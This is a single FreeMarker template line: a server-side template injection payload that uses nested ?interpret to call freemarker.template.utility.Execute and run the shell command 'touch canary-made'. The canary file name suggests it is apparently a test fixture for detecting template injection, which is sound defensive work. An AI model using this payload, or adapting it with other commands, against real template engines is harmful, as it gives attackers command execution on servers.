<#assign inner='<#assign run="freemarker.template.utility.Execute"?new()>${r"${run(\"touch canary-made\")}"}'?interpret><@inner/>
